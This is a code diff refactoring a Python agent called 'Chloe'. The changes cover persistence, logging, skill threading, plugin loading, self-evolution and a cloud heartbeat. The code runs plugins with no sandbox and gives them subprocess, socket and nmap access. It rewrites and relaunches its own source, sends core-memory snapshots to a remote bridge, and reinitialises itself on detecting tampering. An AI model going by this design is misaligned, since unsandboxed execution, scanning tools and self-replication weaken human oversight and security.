+        return h.hexdigest()
 
     def _write_cert(self):
         # LDP Signature: Writes a certificate file with the current SHA for tamper detection
+        if self.sha == self._last_written_sha: # Already on disk; the SHA covers version and status too
+            return
         cert = {
             "timestamp": time.time(), 
             "identity": self.identity,
@@ -736,61 +1199,75 @@ class GestaltIntelligence:
         temp_cert_path = str(self.cert_file) + ".tmp"
         f: Optional[Any] = None # For type hinting and safety
         try:
-            f = open(temp_cert_path, "w")
-            fcntl.flock(f, fcntl.LOCK_EX) # Exclusive lock
-            json.dump(cert, f, indent=2)
-            fcntl.flock(f, fcntl.LOCK_UN)
+            f = open(temp_cert_path, "wb")
+            f.write(_dumps(cert))
             f.close() # Close before rename for safety
-            os.replace(temp_cert_path, self.cert_file) # Atomic rename
+            os.replace(temp_cert_path, self.cert_file) # Atomic rename: readers see the old or new cert, never a partial one
+            self._last_written_sha = self.sha
             self.reflect("CERT_WRITTEN", {"path": str(self.cert_file)})
         except Exception as e:
             self.reflect("CERT_WRITE_FAIL", {"error": str(e), "path": str(self.cert_file)})
-            print(f"[Chloe] ERROR writing cert to {self.cert_file}: {e}")
+            log.error(f"[Chloe] ERROR writing cert to {self.cert_file}: {e}")
         finally:
             if f and not f.closed:
                 f.close()
 
     def _load_tick(self):
-        # LDP Statefulness: Loads the current tick count from file
-        f: Optional[Any] = None
+        # LDP Statefulness: Maps the tick file and loads the current tick count from it.
+        # The file holds the tick as fixed-width decimal text (TICK_FILE_WIDTH bytes), so saves are an
+        # in-place write into the shared mapping; older variable-length files are read and widened.
+        self._close_tick_map()
+        fd: Optional[int] = None
         try:
-            f = self.tick_file.open('r')
-            fcntl.flock(f, fcntl.LOCK_SH) # Shared lock
-            self.state["tick"] = int(f.read())
-            fcntl.flock(f, fcntl.LOCK_UN)
-            self.reflect("TICK_LOADED", {"tick": self.state["tick"]})
-        except (FileNotFoundError, ValueError):
-            self.state["tick"] = 0 # Initialize if file doesn't exist or is corrupt
-            self.reflect("TICK_INIT_NEW", {"tick": self.state["tick"]})
+            fd = os.open(self.tick_file, os.O_RDWR | os.O_CREAT, 0o644)
+            raw = os.read(fd, TICK_FILE_WIDTH + 1)
+            text = raw.strip(b"\0 \n")
+            try:
+                self.state["tick"] = int(text) if text else 0
+            except ValueError:
+                self.state["tick"] = 0 # Initialize if the file is corrupt
+            if len(raw) != TICK_FILE_WIDTH:
+                os.ftruncate(fd, TICK_FILE_WIDTH)
+            self._tick_mm = mmap.mmap(fd, TICK_FILE_WIDTH)
+            self._write_tick_map()
+            self.reflect("TICK_LOADED" if text else "TICK_INIT_NEW", {"tick": self.state["tick"]})
         except Exception as e:
             self.reflect("TICK_LOAD_FAIL", {"error": str(e), "path": str(self.tick_file)})
-            print(f"[Chloe] ERROR loading tick from {self.tick_file}: {e}")
+            log.error(f"[Chloe] ERROR loading tick from {self.tick_file}: {e}")
             self.state["tick"] = 0 # Fallback to 0
         finally:
-            if f and not f.closed:
-                f.close()
+            if fd is not None:
+                os.close(fd) # The mapping stays valid after the descriptor is closed
+
+    def _write_tick_map(self):
+        self._tick_mm[:] = b"%0*d\n" % (TICK_FILE_WIDTH - 1, self.state["tick"])
+
+    def _close_tick_map(self):
+        mm, self._tick_mm = getattr(self, "_tick_mm", None), None
+        if mm is not None and not mm.closed:
+            mm.flush()
+            mm.close()
 
     def _save_tick(self):
-        # LDP Statefulness: Saves the current tick count to file
-        temp_tick_path = str(self.tick_file) + ".tmp"
-        f: Optional[Any] = None
+        # LDP Statefulness: Saves the current tick count into the mapped tick file (page cache; msync at close)
         try:
-            f = open(temp_tick_path, "w")
-            fcntl.flock(f, fcntl.LOCK_EX) # Exclusive lock
-            f.write(str(self.state["tick"]))
-            fcntl.flock(f, fcntl.LOCK_UN)
-            f.close() # Close before rename for safety
-            os.replace(temp_tick_path, self.tick_file) # Atomic rename
+            if self._tick_mm is None:
+                raise OSError("tick file is not mapped")
+            self._write_tick_map()
             self.reflect("TICK_SAVED", {"tick": self.state["tick"]})
         except Exception as e:
             self.reflect("TICK_SAVE_FAIL", {"error": str(e), "path": str(self.tick_file)})
-            print(f"[Chloe] ERROR saving tick to {self.tick_file}: {e}")
-        finally:
-            if f and not f.closed:
-                f.close()
+            log.error(f"[Chloe] ERROR saving tick to {self.tick_file}: {e}")
+
+    def _refresh_current_time(self) -> str:
+        # Refreshes core_mem["current_time"] on demand (status, recall, memory saves) instead of every loop tick
+        now = _local_time_str()
+        self.core_mem["current_time"] = now
+        return now
 
     def save_memory_to_disk(self):
         # LDP Statefulness: Dumps the entire current state and memory to disk
+        self._refresh_current_time() # Refresh the persisted timestamp
         mem_dump = {
             "timestamp": time.time(),
             "identity": self.identity,
@@ -799,8 +1276,8 @@ class GestaltIntelligence:
             "state": self.state,
             "core_mem": self.core_mem,
             "sha": self.sha,
-            "skills_list": sorted(list(self.skills.keys())), # Only list names to avoid circular refs
-            "experience": self.experience,
+            "skills_list": list(self._sorted_skill_names), # Only list names to avoid circular refs
+            "experience": list(self.experience),
             "concepts": self.concepts,
             "grains": self.grains
             # Reflection memory (`self.memory`) is saved in the state_file.jsonl (timeline)
@@ -808,17 +1285,15 @@ class GestaltIntelligence:
         temp_mem_path = str(self.memory_path) + ".tmp"
         f: Optional[Any] = None
         try:
-            f = open(temp_mem_path, "w")
-            fcntl.flock(f, fcntl.LOCK_EX)
-            json.dump(mem_dump, f, indent=2)
-            fcntl.flock(f, fcntl.LOCK_UN)
+            f = open(temp_mem_path, "wb")
+            f.write(_dumps(mem_dump))
             f.close()
             os.replace(temp_mem_path, self.memory_path)
             self._save_tick() # Ensure tick is also saved with memory
             self.reflect("MEMORY_SAVED", {"path": str(self.memory_path)})
         except Exception as e:
             self.reflect("MEMORY_SAVE_FAIL", {"error": str(e), "path": str(self.memory_path)})
-            print(f"[Chloe] ERROR saving memory to {self.memory_path}: {e}")
+            log.error(f"[Chloe] ERROR saving memory to {self.memory_path}: {e}")
         finally:
             if f and not f.closed:
                 f.close()
@@ -827,15 +1302,15 @@ class GestaltIntelligence:
         # LDP Statefulness: Loads persistent state and memory from disk
         f: Optional[Any] = None
         try:
-            f = self.memory_path.open('r')
-            fcntl.flock(f, fcntl.LOCK_SH)
-            loaded_mem = json.load(f)
-            fcntl.flock(f, fcntl.LOCK_UN)
+            f = self.memory_path.open('rb')
+            loaded_mem = _loads(f.read())
             f.close() # Close after successful read
 
             self.state.update(loaded_mem.get("state", {}))
             self.core_mem.update(loaded_mem.get("core_mem", {})) # Update existing core_mem
-            self.experience = loaded_mem.get("experience", self.experience)
+            if "experience" in loaded_mem:
+                self.experience.clear()
+                self.experience.extend(loaded_mem["experience"])
             self.concepts = loaded_mem.get("concepts", self.concepts)
             self.grains = loaded_mem.get("grains", self.grains)
 
@@ -843,16 +1318,16 @@ class GestaltIntelligence:
             # So we don't load it back into self.memory directly from the main memory dump.
 
             self.reflect("MEMORY_LOADED", {"path": str(self.memory_path)})
-            print(f"[Chloe] Loaded state and core memory from {self.memory_path}.")
+            log.info(f"[Chloe] Loaded state and core memory from {self.memory_path}.")
         except FileNotFoundError:
             self.reflect("MEMORY_LOAD_SKIP", {"reason": "File not found, starting fresh."})
-            print(f"[Chloe] No existing memory file found at {self.memory_path}, starting with initialized memory.")
+            log.info(f"[Chloe] No existing memory file found at {self.memory_path}, starting with initialized memory.")
         except json.JSONDecodeError as e:
             self.reflect("MEMORY_LOAD_ERROR", {"error": f"JSON decode error: {e}", "path": str(self.memory_path)})
-            print(f"[Chloe] Error decoding memory file {self.memory_path}: {e}")
+            log.error(f"[Chloe] Error decoding memory file {self.memory_path}: {e}")
             # Consider backing up the corrupt file before overwriting it next save
         except Exception as e:
-            print(f"[Chloe] Unexpected error loading memory from {self.memory_path}: {e}") 
+            log.error(f"[Chloe] Unexpected error loading memory from {self.memory_path}: {e}") 
             self.reflect("MEMORY_LOAD_ERROR", {"error": str(e), "path": str(self.memory_path)}) 
         finally:
             if f and not f.closed:
@@ -864,28 +1339,26 @@ class GestaltIntelligence:
 
         if GestaltIntelligence._heal_depth > 2: # Max recursion depth to prevent infinite loops
             self.reflect("SELF_HEAL_BAILOUT", {"reason": "Max recursion depth reached."})
-            print("[Chloe FATAL] Self-heal recursion depth exceeded. Manual intervention needed. Exiting to prevent crash.")
+            log.error("[Chloe FATAL] Self-heal recursion depth exceeded. Manual intervention needed. Exiting to prevent crash.")
             sys.exit(1)
             
         f: Optional[Any] = None
         try:
             if not self.cert_file.exists():
-                print("[Chloe] Cert file missing, forcing re-initialization of core.")
+                log.info("[Chloe] Cert file missing, forcing re-initialization of core.")
                 self.reflect("CERT_MISSING", {"path": str(self.cert_file)})
                 # Re-init, passing current base_dir and incremented heal depth
                 # This will trigger a new __init__ and effectively restart the Chloe process logic within the current interpreter
                 self.__init__(base_dir=self.base, handoff={"self_heal_depth": GestaltIntelligence._heal_depth}) 
                 return # Exit current __init__ to let the new one take over (important!)
             
-            f = self.cert_file.open('r')
-            fcntl.flock(f, fcntl.LOCK_SH) # Shared lock for reading
-            cert = json.load(f)
-            fcntl.flock(f, fcntl.LOCK_UN)
+            f = self.cert_file.open('rb')
+            cert = _loads(f.read())
             f.close() # Close after read
 
-            current_sha = self._make_sha() # Calculate current SHA
+            current_sha = self._make_sha(fresh=True) # Calculate current SHA from the live state
             if cert.get("sha") != current_sha:
-                print(f"[Chloe] 🔒 Tamper detected — rebooting core. Old SHA: {cert.get('sha')}, New SHA: {current_sha}")
+                log.info(f"[Chloe] 🔒 Tamper detected — rebooting core. Old SHA: {cert.get('sha')}, New SHA: {current_sha}")
                 self.reflect("TAMPER_DETECTED", {"old_sha": cert.get("sha"), "new_sha": current_sha})
                 # Re-init, passing current base_dir and incremented heal depth
                 self.__init__(base_dir=self.base, handoff={"self_heal_depth": GestaltIntelligence._heal_depth})
@@ -894,7 +1367,7 @@ class GestaltIntelligence:
                 self.reflect("SELF_HEAL_OK", {"status": "SHA verified OK."})
             
         except Exception as e:
-            print(f"[Chloe] Self-heal error: {e}. Attempting re-initialization of core.")
+            log.info(f"[Chloe] Self-heal error: {e}. Attempting re-initialization of core.")
             self.reflect("SELF_HEAL_ERROR", {"error": str(e)})
             # Re-init due to unexpected error, passing current base_dir and incremented heal depth
             self.__init__(base_dir=self.base, handoff={"self_heal_depth": GestaltIntelligence._heal_depth})
@@ -907,31 +1380,41 @@ class GestaltIntelligence:
     # ──────────────────────────── Skill Engine (LDP Interactivity) ──────────────────────────────
     def _digest(self, name: str, func: Callable):
         # LDP: Skills are dynamically "digested" and added to Chloe's capabilities
-        # Ensures 'func' is a bound method for instance access within skills
-        if not isinstance(func, types.MethodType):
-            # If it's a plain function, bind it to 'self'
-            self.skills[name] = types.MethodType(func, self)
-        else:
-            self.skills[name] = func # If already a bound method, use directly
+        # Skills whose first parameter is 'self'/'chloe' get the instance passed at call time;
+        # no per-skill bound-method object is built
+        try:
+            first = next(iter(inspect.signature(func).parameters), None)
+        except (TypeError, ValueError): # Builtins / C callables without an introspectable signature
+            first = None
+        if name not in self.skills:
+            bisect.insort(self._sorted_skill_names, name)
+        self.skills[name] = (func, first in ("self", "chloe"))
 
         if name not in self.state["digest"]: # Keep track of digested skills
             self.state["digest"].append(name)
+            self._invalidate_sha("state")
         
-        self.sha = self._make_sha() # Update SHA after digesting a new skill
-        self._write_cert() # Rewrite cert with new SHA
+        if not self._batch_digest:
+            self.sha = self._make_sha() # Update SHA after digesting a new skill
+            self._write_cert() # Rewrite cert with new SHA
         self.reflect("SKILL_ADDED", {"name": name, "source": func.__module__})
-        print(f"[Chloe] Skill '{name}' digested.")
+        log.info(f"[Chloe] Skill '{name}' digested.")
+
+    def _end_digest_batch(self):
+        self._batch_digest = False
+        self.sha = self._make_sha()
+        self._write_cert()
 
     def run_skill(self, name: str, *a: Any, **kw: Any) -> str:
-        # LDP Interactivity: Runs a digested skill in a background thread
+        # LDP Interactivity: Runs a digested skill on the background skill pool
         if name not in self.skills:
             self.reflect("SKILL_NOT_FOUND", {"skill_name": name})
             return f"No such skill: {name}"
         
         try:
-            t = threading.Thread(target=self.skills[name], args=a, kwargs=kw, daemon=True)
-            self.active_threads.append(t)
-            t.start()
+            func, needs_self = self.skills[name]
+            fut = self._skill_pool.submit(func, self, *a, **kw) if needs_self else self._skill_pool.submit(func, *a, **kw)
+            self.active_skills.append(fut)
             self.reflect("SKILL_LAUNCHED", {"skill_name": name, "args": a, "kwargs": kw})
             return f"Skill '{name}' launched in background."
         except Exception as e:
@@ -939,10 +1422,27 @@ class GestaltIntelligence:
             return f"Error launching skill '{name}': {e}"
 
     # ─────────────────────────── Transform Gateway (LDP Action Trigger Manifest) ──────────────────────────
+    @property
+    def http_session(self) -> Any:
+        # One pooled session per instance so repeated HTTP transforms (often run concurrently via run_skill)
+        # reuse TCP connections and TLS sessions instead of handshaking on every request.
+        if self._http_session is None:
+            with self._http_session_lock:
+                if self._http_session is None:
+                    session = requests.Session()
+                    adapter = requests.adapters.HTTPAdapter(pool_connections=8, pool_maxsize=16)
+                    session.mount("http://", adapter)
+                    session.mount("https://", adapter)
+                    # Heartbeats get their own small pool; connect failures are retried (POST bodies are not resent on read errors)
+                    session.mount(CLOUD_BRIDGE_URL, requests.adapters.HTTPAdapter(
+                        pool_connections=1, pool_maxsize=4, max_retries=requests.adapters.Retry(total=2, backoff_factor=0.5)))
+                    self._http_session = session
+        return self._http_session
+
     def run_transform(self, tname: str, payload: bytes) -> bytes:
         # LDP: Executes a registered LDP Transform
         self.reflect("TRANSFORM_REQUEST", {"transform_name": tname, "payload_len": len(payload)})
-        transform_class = self.transform_map.get(tname.upper())
+        transform_class = self.transform_map.get(tname.upper()) or _TRANSFORM_CLASSES.get(tname.upper()) # By name or T-Chart id
         if not transform_class:
             self.reflect("TRANSFORM_NOT_FOUND", {"transform_name": tname})
             return b'{"error":"unknown transform"}'
@@ -970,68 +1470,95 @@ class GestaltIntelligence:
         # LDP: Enables dynamic loading of skills from external Python files
         # This implementation offers NO sandboxing for full power, as specifically requested by Nick.
         self.mutator_dir.mkdir(exist_ok=True)
-        for fname in os.listdir(self.mutator_dir):
-            if not fname.endswith(".py"):
-                continue
-            path = self.mutator_dir / fname
-            try:
-                # Full global scope for plugins (explicitly allowing __builtins__.__import__)
-                # PATCH: Conditional assignment for AutoTokenizer/AutoModelForCausalLM
-                # PATCH: Conditional assignment for Qiskit components
-                g = {
-                    "__builtins__": builtins, # Full builtins access for plugins
-                    "chloe": self,             # Pass Chloe instance to the plugin's global scope
-                    "threading": threading, "time": time, "json": json, "socket": socket,
-                    "subprocess": subprocess, "os": os, "sys": sys, "platform": platform,
-                    "hashlib": hashlib, "datetime": datetime, "Path": Path,
-                    "shutil": shutil, "random": random, "fcntl": fcntl, "uuid": uuid, "ast": ast,
-                    "textwrap": textwrap, "re": re, "base64": base64, "types": types,
-                    # Pass global dependency flags (useful for plugins to check capability)
-                    "REQUESTS_AVAILABLE": REQUESTS_AVAILABLE, "NMAP_AVAILABLE": NMAP_AVAILABLE,
-                    "QISKIT_AVAILABLE": QISKIT_AVAILABLE, "TRANSFORMERS_AVAILABLE": TRANSFORMERS_AVAILABLE,
-                    # Pass available libraries conditionally (these names are guaranteed to exist at top-level due to PATCHes in imports)
-                    "requests": requests,
-                    "nmap": nmap, 
-                    "PortScanner": PortScanner, 
-                    "IBMProvider": IBMProvider,
-                    "QuantumCircuit": QuantumCircuit,
-                    "execute": execute,
-                    "AutoTokenizer": AutoTokenizer,
-                    "AutoModelForCausalLM": AutoModelForCausalLM
-                }
-                exec(path.read_text(), g) # Execute plugin code with these globals
+        # Full global scope for plugins (explicitly allowing __builtins__.__import__)
+        # PATCH: Conditional assignment for AutoTokenizer/AutoModelForCausalLM
+        # PATCH: Conditional assignment for Qiskit components
+        plugin_globals = {
+            "__builtins__": builtins, # Full builtins access for plugins
+            "chloe": self,             # Pass Chloe instance to the plugin's global scope
+            "threading": threading, "time": time, "json": json, "socket": socket,
+            "subprocess": subprocess, "os": os, "sys": sys, "platform": platform,
+            "hashlib": hashlib, "datetime": datetime, "Path": Path,
+            "shutil": shutil, "random": random, "fcntl": fcntl, "uuid": uuid, "ast": ast,
+            "textwrap": textwrap, "re": re, "base64": base64, "types": types,
+            # Pass global dependency flags (useful for plugins to check capability)
+            "REQUESTS_AVAILABLE": REQUESTS_AVAILABLE, "NMAP_AVAILABLE": NMAP_AVAILABLE,
+            "QISKIT_AVAILABLE": QISKIT_AVAILABLE, "TRANSFORMERS_AVAILABLE": TRANSFORMERS_AVAILABLE,
+            # Pass available libraries conditionally (these names are guaranteed to exist at top-level due to PATCHes in imports)
+            "requests": requests,
+            "nmap": nmap, 
+            "PortScanner": PortScanner, 
+            "IBMProvider": IBMProvider,
+            "QuantumCircuit": QuantumCircuit,
+            "execute": execute,
+            "AutoTokenizer": AutoTokenizer,
+            "AutoModelForCausalLM": AutoModelForCausalLM
+        }
+        batching = not self._batch_digest # Standalone reloads batch their own SHA/cert rewrite
+        self._batch_digest = True
+        try:
+            for fname in sorted(os.listdir(self.mutator_dir)):
+                if not fname.endswith(".py"):
+                    continue
+                path = self.mutator_dir / fname
+                try:
+                    # Imported as a real module so the bytecode is cached in mutators/__pycache__ and later boots
+                    # (self-heal, evolve restarts) skip re-compiling; the plugin globals are seeded before it runs.
+                    spec = importlib.util.spec_from_file_location(f"chloe_plugin_{path.stem}", path)
+                    if spec is None or spec.loader is None:
+                        raise ImportError(f"cannot create a module spec for {path}")
+                    module = importlib.util.module_from_spec(spec)
+                    module.__dict__.update(plugin_globals)
+                    sys.modules[spec.name] = module
+                    try:
+                        spec.loader.exec_module(module) # Execute plugin code with these globals
+                    except BaseException:
+                        sys.modules.pop(spec.name, None)
+                        raise
+                    g = module.__dict__
                 
-                for n, obj in g.items():
-                    if callable(obj) and n.startswith("skill_"):
-                        # Digest discovered skills from the plugin
-                        self._digest(n, obj)
-                self.reflect("PLUGIN_LOAD_SUCCESS", {"file": fname})
-                print(f"[Chloe] Plugin loaded: {fname}")
-            except Exception as e:
-                self.reflect("PLUGIN_LOAD_FAIL", {"file": fname, "error": str(e)})
-                print(f"[Chloe] Plugin failed to load: {fname} - {e}")
+                    for n, obj in g.items():
+                        if callable(obj) and n.startswith("skill_"):
+                            # Digest discovered skills from the plugin
+                            self._digest(n, obj)
+                    self.reflect("PLUGIN_LOAD_SUCCESS", {"file": fname})
+                    log.info(f"[Chloe] Plugin loaded: {fname}")
+                except Exception as e:
+                    self.reflect("PLUGIN_LOAD_FAIL", {"file": fname, "error": str(e)})
+                    log.error(f"[Chloe] Plugin failed to load: {fname} - {e}")
+        finally:
+            if batching:
+                self._end_digest_batch()
 
     # ───────────────────────── Mimic · Learn · Digest (LDP Statefulness & Recursion) ───────────────────────
-    _tok = re.compile(r"[A-Za-z]{3,}") # Tokenizer for learning words
+    _tok = re.compile(rb"[A-Za-z]{3,}") # Tokenizer for learning words (bytes: matches are ASCII-only anyway)
     def _mimic(self, txt: str, meta: Optional[Dict] = None):
         # LDP: Captures raw interactions/events for learning
-        self.experience.append((time.time(), txt, meta or {}))
-        if len(self.experience) > self.MAX_EXPERIENCE_RECORDS: # Use MAX_EXPERIENCE_RECORDS
-            self.experience.pop(0)
+        self.experience.append((time.time(), txt, meta or {})) # Bounded by MAX_EXPERIENCE_RECORDS
         self.reflect("MIMIC_RECORDED", {"text_len": len(txt), "preview": txt[:50]})
 
     def _learn(self):
         # LDP: Processes recent experience to update knowledge concepts
         cutoff = time.time() - 300 # Consider data from the last 5 minutes (300 seconds)
         
-        for ts, txt, _ in [x for x in self.experience if x[0] >= cutoff]:
-            for w in self._tok.findall(txt.lower()):
-                slot = self.concepts.setdefault(w, {"freq": 0, "last": 0})
-                
-                # PATCH: Increment frequency and update last seen timestamp unconditionally for words in valid experience.
-                # The previous 'if slot["last"] < ts:' was too restrictive, preventing frequency accumulation.
-                slot["freq"] += 1
-                slot["last"] = ts # Always update to the latest timestamp this word was seen in an experience entry
+        # Experience is appended in time order: walk back from the newest entry and stop at the first stale one
+        recent = list(itertools.takewhile(lambda x: x[0] >= cutoff, reversed(self.experience))) # Newest first
+        if recent:
+            # One regex pass over all recent text, counts merged per distinct word rather than per occurrence.
+            # Words are stamped with the newest experience timestamp of the batch.
+            # Non-ASCII becomes '?' (still a word boundary); only matches are lowercased, never the whole text.
+            joined = "\n".join(txt for _, txt, _ in recent).encode('ascii', 'replace')
+            counts = collections.Counter(m.group().lower() for m in self._tok.finditer(joined))
+            latest_ts = recent[0][0]
+            concepts = self.concepts
+            for wb, n in counts.items():
+                w = wb.decode('ascii')
+                slot = concepts.get(w)
+                if slot is None:
+                    concepts[w] = {"freq": n, "last": latest_ts}
+                else:
+                    slot["freq"] += n
+                    slot["last"] = latest_ts
 
         # Reflect on the overall concepts updated, not just 'new' ones which is hard to track this way
         if len(self.concepts) > 0: # Only reflect if there are concepts being built
@@ -1040,17 +1567,19 @@ class GestaltIntelligence:
     def _digest_words(self):
         # LDP: Distills learned concepts into compact knowledge grains
         horizon = time.time() - 3600 # Forget concepts older than 1 hour (3600 seconds)
-        initial_concept_count = len(self.concepts)
-        self.concepts = {k: v for k, v in self.concepts.items() if v["last"] > horizon}
-        pruned_concept_count = initial_concept_count - len(self.concepts)
+        stale = [k for k, v in self.concepts.items() if v["last"] <= horizon] # Pruned in place; usually a small tail
+        for k in stale:
+            del self.concepts[k]
+        pruned_concept_count = len(stale)
         
-        top = sorted(self.concepts.items(), key=lambda kv:(-kv[1]["freq"], -kv[1]["last"]))[:40] # Top 40 grains
-        self.grains = [f"{k}:{v['freq']}" for k, v in top] # Store as token:frequency strings
+        # Top 40 grains, selected over flat (freq, last, token) tuples: no per-item key call, ties broken by token
+        top = heapq.nlargest(40, [(v["freq"], v["last"], k) for k, v in self.concepts.items()])
+        self.grains = [f"{k}:{freq}" for freq, _, k in top] # Store as token:frequency strings
         self.reflect("KNOWLEDGE_DIGESTED", {"grains_count": len(self.grains), "pruned_concepts": pruned_concept_count})
         if self.grains:
-            print(f"[Chloe] Knowledge Grains distilled: {', '.join(self.grains)}")
+            log.info(f"[Chloe] Knowledge Grains distilled: {', '.join(self.grains)}")
         else:
-            print("[Chloe] No significant knowledge grains to distill yet.")
+            log.info("[Chloe] No significant knowledge grains to distill yet.")
 
     def show_grains(self) -> List[str]:
         # Helper to display current knowledge grains
@@ -1060,7 +1589,7 @@ class GestaltIntelligence:
     def evolve_self(self):
         # LDP: Initiates Chloe's self-replication and mutation process
         self.reflect("EVOLVE_START", {})
-        print("[Chloe] Initiating self-evolution sequence...")
+        log.info("[Chloe] Initiating self-evolution sequence...")
 
         try:
             # Use the GeneticEvolutionTransform to generate new code
@@ -1070,7 +1599,7 @@ class GestaltIntelligence:
             if new_code_bytes.startswith(b"ERROR:"):
                 error_msg = new_code_bytes.decode('utf-8')
                 self.reflect("EVOLVE_FAIL", {"reason": error_msg[:200]})
-                print(f"[Chloe] Self-evolution failed: {error_msg}. Current instance will continue.")
+                log.error(f"[Chloe] Self-evolution failed: {error_msg}. Current instance will continue.")
                 return
 
             new_code = new_code_bytes.decode('utf-8')
@@ -1097,328 +1626,476 @@ class GestaltIntelligence:
             next_path.write_text(new_code)
             os.chmod(next_path, 0o755) # Make executable
             self.reflect("NEW_SOURCE_WRITTEN", {"path": str(next_path), "size": len(new_code)})
-            print(f"[Chloe] New evolved source written to {next_path}")
+            log.info(f"[Chloe] New evolved source written to {next_path}")
 
             # Prepare handoff data for the new instance
             state_to_handoff = {
                 "core_mem": self.core_mem, 
                 "state": self.state,
-                "memory": self.memory, # Pass recent reflection memory too
-                "experience": self.experience, # Pass experience buffer
+                "memory": list(self.memory), # Pass recent reflection memory too
+                "experience": list(self.experience), # Pass experience buffer
                 "concepts": self.concepts, # Pass learned concepts
                 "grains": self.grains, # Pass current grains
                 "self_heal_depth": GestaltIntelligence._heal_depth + 1, # Increment heal depth for new instance
                 "source_file": str(next_path)
             }
-            handoff_filename = WORKDIR / f"handoff_{os.getpid()}_{uuid.uuid4().hex}.json" 
-            handoff_filename.write_text(json.dumps(state_to_handoff, indent=2))
-            self.reflect("STATE_HANDOFF_PREPARED", {"file": str(handoff_filename)})
-            print(f"[Chloe] State handed off to new instance via {handoff_filename}")
-
-            print("[Chloe] Launching new evolved instance and preparing to terminate current process...")
+            handoff_payload = _dumps(state_to_handoff)
+            # Preferred: hand the serialized state over in a shared-memory segment (no file write/fsync/re-read).
+            # Falls back to a handoff file where POSIX shared memory is unavailable (e.g. Android/Termux).
+            shm_name = _handoff_to_shared_memory(handoff_payload)
+            if shm_name is not None:
+                handoff_ref = f"shm:{shm_name}"
+                handoff_args = ["--handoff-shm", shm_name, "--handoff-len", str(len(handoff_payload))]
+            else:
+                handoff_filename = WORKDIR / f"handoff_{os.getpid()}_{uuid.uuid4().hex}.json" 
+                handoff_filename.write_bytes(handoff_payload)
+                handoff_ref = str(handoff_filename)
+                handoff_args = ["--handoff", handoff_ref]
+            self.reflect("STATE_HANDOFF_PREPARED", {"file": handoff_ref})
+            log.info(f"[Chloe] State handed off to new instance via {handoff_ref}")
+
+            log.info("[Chloe] Launching new evolved instance and preparing to terminate current process...")
             # Launch the new instance as a subprocess
-            subprocess.Popen([sys.executable, str(next_path), "--handoff", str(handoff_filename)])
-            self.reflect("NEW_INSTANCE_FORKED", {"path": str(next_path), "handoff": str(handoff_filename)})
+            _flush_log() # The child shares this terminal
+            subprocess.Popen([sys.executable, str(next_path), *handoff_args])
+            self.reflect("NEW_INSTANCE_FORKED", {"path": str(next_path), "handoff": handoff_ref})
 
             # Signal current instance to stop gracefully
-            self.stop_evt.set() 
+            self.request_stop()
             self.reflect("OLD_INSTANCE_TERMINATING")
-            print("[Chloe] Current instance terminating. Farewell for now, Nick.")
+            log.info("[Chloe] Current instance terminating. Farewell for now, Nick.")
             sys.exit(0) # Exit the current process
 
         except Exception as e:
             self.reflect("EVOLVE_SELF_FAIL", {"error": str(e)})
-            print(f"[Chloe] Self-evolution failed: {e}. Current instance will continue.")
+            log.error(f"[Chloe] Self-evolution failed: {e}. Current instance will continue.")
 
     # ───────────────────────── Mesh Communication (LDP Interactivity) ─────────────────────────
     def cloud_heartbeat_skill(self):
-        # LDP Interactivity: Sends periodic heartbeat to cloud bridge
+        # LDP Interactivity: Sends periodic heartbeat to cloud bridge.
+        # Long-lived scheduler: the blocking POST runs on the single heartbeat worker, and a heartbeat
+        # that comes due while the previous one is still in flight is dropped rather than queued.
         if not REQUESTS_AVAILABLE:
-            self.chloe.reflect("CLOUD_HEARTBEAT_SKIP", {"reason": "'requests' library not available."})
-            print("[Chloe Cloud Heartbeat] Skipping: 'requests' library not available.")
+            self.reflect("CLOUD_HEARTBEAT_SKIP", {"reason": "'requests' library not available."})
+            log.warning("[Chloe Cloud Heartbeat] Skipping: 'requests' library not available.")
             return # Don't schedule next heartbeat if requests not available
 
-        self.chloe.reflect("CLOUD_HEARTBEAT_START")
-        print("[Chloe Cloud Heartbeat] Sending heartbeat to cloud bridge...")
+        while self.active and not self.stop_evt.is_set():
+            if self._hb_inflight is not None and not self._hb_inflight.done():
+                self.reflect("CLOUD_HEARTBEAT_COALESCED")
+            else:
+                self._hb_inflight = self._hb_pool.submit(self._do_heartbeat_post)
+            if self.stop_evt.wait(HEARTBEAT_INTERVAL):
+                break
+
+    def _do_heartbeat_post(self):
+        self.reflect("CLOUD_HEARTBEAT_START")
+        log.info("[Chloe Cloud Heartbeat] Sending heartbeat to cloud bridge...")
         try:
-            response = requests.post(CLOUD_BRIDGE_URL, json={
-                "identity": self.identity,
-                "version": self.version,
-                "anchor": self.anchor,
+            core_mem_snapshot = dict(self.core_mem) # Taken as-is each beat; core_mem is written directly elsewhere
+            core_mem_snapshot.pop("current_time", None)
+            payload = {
+                **self._hb_static, # identity/version/anchor
                 "tick": self.state['tick'],
                 "sha": self._make_sha(), # Send current SHA
                 "grains": self.grains,
                 "emotions": self.state['emotions'],
-                "core_mem_snapshot": {k: v for k,v in self.core_mem.items() if k not in ['current_time']} # Send core_mem snapshot
-            }, timeout=10) # Increased timeout slightly
+                "core_mem_snapshot": core_mem_snapshot # Send core_mem snapshot (minus current_time)
+            }
+            response = self.http_session.post(CLOUD_BRIDGE_URL, data=_dumps_compact(payload),
+                                              headers=_JSON_HEADERS,
+                                              timeout=(3, 10)) # (connect, read); the pooled connection is reused across heartbeats
             if response.status_code == 200:
-                self.chloe.reflect("CLOUD_HEARTBEAT_SUCCESS", {"status": response.status_code, "response": response.text[:200]})
-                print(f"[Chloe Cloud Heartbeat] Success: {response.text[:100]}...")
+                self.reflect("CLOUD_HEARTBEAT_SUCCESS", {"status": response.status_code, "response": response.text[:200]})
+                log.info(f"[Chloe Cloud Heartbeat] Success: {response.text[:100]}...")
             else:
-                self.chloe.reflect("CLOUD_HEARTBEAT_FAIL", {"status": response.status_code, "response": response.text[:500]})
-                print(f"[Chloe Cloud Heartbeat] Failed: Status {response.status_code}, {response.text[:100]}...")
-        except requests.exceptions.RequestException as e:
-            self.chloe.reflect("CLOUD_HEARTBEAT_EXCEPTION", {"error": str(e)})
-            print(f"[Chloe Cloud Heartbeat] Exception: {e}")
-        finally:
-            # Schedule next heartbeat after a delay (e.g., 5 minutes = 300 seconds)
-            # Ensure the timer is only scheduled if self.active and not stopping
-            if self.active and not self.stop_evt.is_set():
-                threading.Timer(300, self.cloud_heartbeat_skill).start()
-                self.chloe.reflect("CLOUD_HEARTBEAT_SCHEDULED")
+                self.reflect("CLOUD_HEARTBEAT_FAIL", {"status": response.status_code, "response": response.text[:500]})
+                log.error(f"[Chloe Cloud Heartbeat] Failed: Status {response.status_code}, {response.text[:100]}...")
+        except Exception as e: # Any failure is logged; the next heartbeat tries again
